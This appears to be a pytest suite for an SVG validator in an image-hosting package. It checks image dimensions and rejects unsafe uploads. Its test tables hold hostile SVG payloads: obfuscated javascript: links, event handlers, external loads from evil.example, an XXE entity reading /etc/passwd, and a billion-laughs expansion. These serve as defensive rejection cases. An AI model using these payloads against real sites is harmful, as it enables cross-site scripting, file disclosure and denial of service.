from __future__ import annotations

import contextlib

import pytest

from pelican_imagehost.errors import CorruptImage, ImageHostError, UnsupportedImage
from pelican_imagehost.images.identify import identify
from pelican_imagehost.images.image import IMAGE_TYPES, Limits
from pelican_imagehost.images.svg import inspect, looks_like_svg

LIMITS = Limits(10 * 1024**2, 100_000_000, frozenset(IMAGE_TYPES))
SVG = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
PNG = "data:image/png;base64,iVBORw0KGgo="


def wrap(inside: str, *, attributes: str = "", prolog: str = "") -> bytes:
    """Put an element on line 3 of an SVG whose prolog is one line."""
    return f"{prolog}\n<svg {SVG} {XLINK} {attributes}>\n{inside}\n</svg>\n".encode()


PLAIN = {
    "a size": (wrap("", attributes='width="40" height="30"'), (40, 30)),
    "pixels": (wrap("", attributes='width="40px" height="30PX"'), (40, 30)),
    "points": (wrap("", attributes='width="30pt" height="15pt"'), (40, 20)),
    "picas": (wrap("", attributes='width="2pc" height="1pc"'), (32, 16)),
    "inches": (wrap("", attributes='width="1in" height=".5in"'), (96, 48)),
    "centimetres": (wrap("", attributes='width="2.54cm" height="5.08cm"'), (96, 192)),
    "millimetres": (wrap("", attributes='width="210mm" height="297mm"'), (794, 1123)),
    "fractions": (wrap("", attributes='width="40.4" height="29.6"'), (40, 30)),
    "an exponent": (wrap("", attributes='width="4e1" height="3E+1"'), (40, 30)),
    "less than a pixel": (wrap("", attributes='width=".2" height="0.1"'), (1, 1)),
    "a huge number": (wrap("", attributes='width="1e400" height="30"'), (10**9, 30)),
    "spaces around": (wrap("", attributes='width=" 40 " height=" 30 "'), (40, 30)),
    "a viewBox only": (wrap("", attributes='viewBox="0 0 400 300"'), (400, 300)),
    "a viewBox with commas": (wrap("", attributes='viewBox="-5,-5, 400 ,300"'), (400, 300)),
    "a width and a viewBox": (wrap("", attributes='width="200" viewBox="0 0 4 3"'), (200, 150)),
    "a height and a viewBox": (wrap("", attributes='height="30" viewBox="0 0 4 3"'), (40, 30)),
    "percentages": (wrap("", attributes='width="100%" height="100%"'), (300, 150)),
    "percentages and a viewBox": (
        wrap("", attributes='width="100%" height="100%" viewBox="0 0 4 3"'),
        (4, 3),
    ),
    "font-relative units": (wrap("", attributes='width="2em" height="3em"'), (300, 150)),
    "no size": (wrap(""), (300, 150)),
    "a negative size": (wrap("", attributes='width="-1" height="-1"'), (300, 150)),
    "a zero size": (wrap("", attributes='width="0" height="0" viewBox="0 0 4 3"'), (4, 3)),
    "a broken viewBox": (wrap("", attributes='viewBox="0 0 400"'), (300, 150)),
    "a doctype": (
        wrap(
            "<g/>",
            prolog='<?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC '
            '"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        ),
        (300, 150),
    ),
    "Illustrator's entities": (
        (
            b'<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator -->\n'
            b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd" [\n'
            b'<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n'
            b'<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">\n]>\n'
            b'<svg xmlns="&ns_svg;" xmlns:i="&ns_ai;" width="40" height="30" i:ruler="&ns_ai;"/>'
        ),
        (40, 30),
    ),
    "Inkscape's namespaces": (
        wrap(
            '<sodipodi:namedview inkscape:zoom="1" pagecolor="#fff"/>'
            '<g inkscape:label="Layer 1" inkscape:groupmode="layer"/>'
            '<metadata><rdf:RDF><cc:Work rdf:about="http://example.com/a.svg"/></rdf:RDF>'
            "</metadata>",
            attributes='xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
            'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
            'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
            'xmlns:cc="http://creativecommons.org/ns#" width="40" height="30"',
        ),
        (40, 30),
    ),
    "a prefix": (
        b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg" width="40" height="30"/>',
        (40, 30),
    ),
    "UTF-16": (
        f'<?xml version="1.0" encoding="utf-16"?><svg {SVG} width="40" height="30"/>'.encode(
            "utf-16"
        ),
        (40, 30),
    ),
    "UTF-16, big end first": (
        f'\ufeff<?xml version="1.0" encoding="utf-16"?><svg {SVG} width="40" height="30"/>'.encode(
            "utf-16-be"
        ),
        (40, 30),
    ),
    "Latin-1": (
        f'<?xml version="1.0" encoding="iso-8859-1"?><svg {SVG} id="é"/>'.encode("latin-1"),
        (300, 150),
    ),
    "a byte order mark": (b"\xef\xbb\xbf" + wrap("").lstrip(), (300, 150)),
    "comments first": (b"<!-- one --><!-- two -->\n<!-- <b> -->" + wrap(""), (300, 150)),
    "thirty comments first": (b"<!-- by a tool -->" * 30 + wrap(""), (300, 150)),
    "blank lines first": (b" \r\n\t\n" + wrap(""), (300, 150)),
    "links": (
        wrap('<a href="https://example.com/"><text>go</text></a><a xlink:href="../b.html"/>'),
        (300, 150),
    ),
    "embedded images": (
        wrap(f'<image href="{PNG}"/><image xlink:href=" {PNG} "/><feImage href="{PNG}"/>'),
        (300, 150),
    ),
    # An image within an image runs no script and loads nothing either (SVG 2, section 2.2).
    "an embedded SVG image": (
        wrap('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
        (300, 150),
    ),
    "references into itself": (
        wrap('<use href="#a"/><use xlink:href=" #a "/><textPath href="#a"/><use href=""/>'),
        (300, 150),
    ),
    "gradients": (
        wrap('<rect style="fill:url(#a)" stroke="url( \'#b\' )" filter=\'url("#c")\'/>'),
        (300, 150),
    ),
    "a style sheet": (
        wrap(
            "<style>/* by hand */ .a{fill:url(#a)} @media print{.a{fill:none}}"
            f"<![CDATA[.b{{background:url({PNG})}}]]></style>"
        ),
        (300, 150),
    ),
    "transforms": (wrap('<g transform="translate(1 2) rotate(3)"/>'), (300, 150)),
    "an animated colour": (
        wrap('<rect><animate attributeName="fill" values="red;blue" dur="1s"/></rect>'),
        (300, 150),
    ),
    "words about scripts": (wrap("<text>script onload= javascript:</text>"), (300, 150)),
    "characters": (wrap("<text>&amp;&lt;&#38;&#x1F408;</text>"), (300, 150)),
}


@pytest.mark.parametrize("name", PLAIN)
def test_a_plain_picture_is_measured(name: str) -> None:
    data, size = PLAIN[name]
    image = identify(data, LIMITS)
    assert (image.type, image.width, image.height) == ("svg", *size)


# In each, the part that offends stands on line 3.
UNSAFE = {
    "a script": "<script>alert(1)</script>",
    "a script elsewhere": '<script href="https://evil.example/x.js"/>',
    "a prefixed script": '<s:script xmlns:s="http://www.w3.org/2000/svg">1</s:script>',
    "a script in capitals": "<SCRIPT>1</SCRIPT>",
    "an event handler": '<rect onclick="alert(1)"/>',
    "an event handler in capitals": '<rect ONLOAD="alert(1)"/>',
    "an animation's event handler": '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
    "a foreign object": "<foreignObject><b>hi</b></foreignObject>",
    "an iframe": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="#"/>',
    "an SVG Tiny handler": '<handler type="application/ecmascript">1</handler>',
    "an XML Events listener": '<listener event="click" handler="#a"/>',
    "a script link": '<a href="javascript:alert(1)"><text>go</text></a>',
    "a script xlink": '<a xlink:href="javascript:alert(1)"/>',
    "a script link in odd case": '<a href="JaVaScRiPt:alert(1)"/>',
    "a script link after spaces": '<a href="  javascript:alert(1)"/>',
    "a script link with tabs": '<a href="java\tscript:alert(1)"/>',
    "a script link with characters by number": '<a href="java&#115;cript:alert(1)"/>',
    "a script link with a tab by number": '<a href="java&#9;script&#10;:alert(1)"/>',
    "a script link set by animation": '<a><set attributeName="y" to="javascript:alert(1)"/></a>',
    "a Visual Basic link": '<a href="vbscript:x"/>',
    "an HTML data link": '<a href="data:text/html,&lt;script&gt;1&lt;/script&gt;"/>',
    "an external image": '<image href="https://evil.example/t.png"/>',
    "an external image with spaces": '<image xlink:href=" https://evil.example/t.png"/>',
    "a neighbouring image": '<image href="neighbour.png"/>',
    "an external use": '<use href="icons.svg#a"/>',
    "an external feImage": '<feImage href="//evil.example/t.png"/>',
    "an external gradient": '<linearGradient xlink:href="https://evil.example/g.svg#a"/>',
    "a source": '<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="https://evil.example/t.png"/>',
    "an external fill": '<rect fill="url(https://evil.example/g.svg#a)"/>',
    "an external style": "<rect style=\"fill:url( 'https://evil.example/g.svg' )\"/>",
    "an external style in capitals": '<rect style="fill:URL(//evil.example/g.svg)"/>',
    "an external style with escapes": r'<rect style="fill:\75\72 l(//evil.example/g.svg)"/>',
    "an external style with a long escape": r'<rect style="fill:\000075rl(//evil.example/g)"/>',
    "an external style with a comment": '<rect style="fill:/* ( */url(//evil.example/g.svg)"/>',
    "an imported sheet": '<style>@import "https://evil.example/a.css";</style>',
    "an imported sheet with escapes": r'<style>@\69mport "https://evil.example/a.css";</style>',
    "an imported sheet as data": "<style><![CDATA[@import 'a.css';]]></style>",
    "a sheet's external image": "<style>a{fill:url(//evil.example/g.svg)}</style>",
    "a font": "<style>@font-face{src:url(//evil.example/f.woff)}</style>",
    "an address set by animation": '<a><set attributeName="href" to="x"/></a>',
    "an address animated": '<a><animate attributeName="xlink:href" values="a;b"/></a>',
    "an animated address by another prefix": (
        '<a xmlns:x="http://www.w3.org/1999/xlink">'
        '<animate attributeName="x:href" values="#;javascript:alert(1)"/></a>'
    ),
    "a sheet hidden by a sheet within": (
        '<style>@import "https://evil.example/a.css";<style/></style>'
    ),
    "a sheet's image hidden by strings": (
        '<style>a{quotes:"/*"} b{fill:url(//evil.example/g.svg)} c{quotes:"*/"}</style>'
    ),
    "an image set": "<rect style=\"cursor:image-set('//evil.example/c.png' 1x), auto\"/>",
    "an HTML redirect": (
        '<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" '
        'content="0;url=https://evil.example/"/>'
    ),
    "an HTML image set": (
        '<h:img xmlns:h="http://www.w3.org/1999/xhtml" srcset="https://evil.example/t.png 1x"/>'
    ),
    # Browsers cloned it into the page, handlers included, until 2023.
    "a document used from data": '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
}


@pytest.mark.parametrize("name", UNSAFE)
def test_what_could_act_or_call_out_is_refused_with_its_line(name: str) -> None:
    with pytest.raises(UnsupportedImage, match=r"^is an SVG with .* in line 3; remove it"):
        identify(wrap(UNSAFE[name]), LIMITS)


UNSAFE_PROLOGS = {
    "a style sheet": '<?xml-stylesheet href="https://evil.example/a.css"?>',
    "an external entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "an external public entity": '<!DOCTYPE svg [<!ENTITY x PUBLIC "x" "http://evil.example/">]>',
    "a parameter entity": '<!DOCTYPE svg [<!ENTITY % x "y">]>',
    "billions of laughs": (
        '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
    ),
    "an XHTML document type": (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">'
    ),
}


@pytest.mark.parametrize("name", UNSAFE_PROLOGS)
def test_a_prolog_that_calls_out_is_refused_with_its_line(name: str) -> None:
    data = wrap('<a href="javascript&colon;alert(1)"/>', prolog=UNSAFE_PROLOGS[name])
    if "XHTML" not in name:
        data = wrap("", prolog=UNSAFE_PROLOGS[name])
    with pytest.raises(UnsupportedImage, match=r"^is an SVG with .* in line 1; remove it"):
        identify(data, LIMITS)


@pytest.mark.parametrize(
    "subset",
    [
        '<!ATTLIST svg onload CDATA "alert(1)">',
        '<!ENTITY x "<script>alert(1)</script>">',
        '<!ENTITY x "&#60;script>alert(1)&#60;/script>">',
        "<!ENTITY x '<a href=\"javascript:alert(1)\"/>'>",
    ],
)
def test_a_document_type_does_not_smuggle(subset: str) -> None:
    data = wrap("&x;" if "ENTITY" in subset else "", prolog=f"<!DOCTYPE svg [{subset}]>")
    with pytest.raises(UnsupportedImage, match="is an SVG with"):
        identify(data, LIMITS)


def test_an_entity_repeated_beyond_measure_is_refused() -> None:
    prolog = f'<!DOCTYPE svg [<!ENTITY a "{"x" * 50_000}">]>'
    with pytest.raises(CorruptImage, match="is not a well-formed SVG"):
        identify(wrap("&a;" * 50_000, prolog=prolog), LIMITS)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (f"<svg {SVG}>\n<g>\n</svg>".encode(), "is not a well-formed SVG: mismatched tag, line 3"),
        (f"<svg {SVG}>\n".encode(), "is not a well-formed SVG: no element found, line 2"),
        (f"<svg {SVG}>\0</svg>".encode(), "is not a well-formed SVG"),
        (f"<svg {SVG}/><svg/>".encode(), "is not a well-formed SVG: junk after document element"),
        (wrap("&nbsp;"), "is not a well-formed SVG: undefined entity, line 3"),
    ],
)
def test_what_is_not_well_formed_is_corrupt(data: bytes, message: str) -> None:
    with pytest.raises(CorruptImage, match=message):
        identify(data, LIMITS)


def test_another_root_is_not_an_svg() -> None:
    with pytest.raises(CorruptImage, match="is not an SVG: its root is <html>"):
        inspect(b"<html><svg/></html>")


@pytest.mark.parametrize("encoding", ["gb2312", "shift_jis", "no-such-encoding"])
def test_an_encoding_that_cannot_be_read_is_refused(encoding: str) -> None:
    data = f'<?xml version="1.0" encoding="{encoding}"?><svg {SVG}/>'.encode()
    with pytest.raises(ImageHostError):
        identify(data, LIMITS)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"svg",
        b"<svgx>",
        b"<html><svg></html>",
        b"<!-- <svg> -->",
        b"<!DOCTYPE html><svg/>",
        b"text <svg/>",
        b"\xff\xfea\0",
    ],
)
def test_what_does_not_begin_as_an_svg_is_none(data: bytes) -> None:
    assert not looks_like_svg(data)


@pytest.mark.parametrize("start", [b"<svg>", b"<svg\n", b"<svg/>", b"<x-1:svg a='b'>", b"\n<svg "])
def test_what_begins_as_an_svg_is_one(start: bytes) -> None:
    assert looks_like_svg(start)


@pytest.mark.parametrize(
    "data",
    [
        b"<!-- -->" * 1000 + b"<html/>",
        b"<?x?>" * 1000 + b"<html/>",
        b"<!DOCTYPE svg []>" * 1000 + b"<html/>",
        f'<svg {SVG} width="{"1" * 1_000_000}x"/>'.encode(),
    ],
    ids=["comments", "instructions", "document types", "digits"],
)
def test_a_long_beginning_takes_no_longer_than_its_length(data: bytes) -> None:
    # So long that a pattern that tries again from each place does not end before the time limit.
    with contextlib.suppress(ImageHostError):
        identify(data, LIMITS)
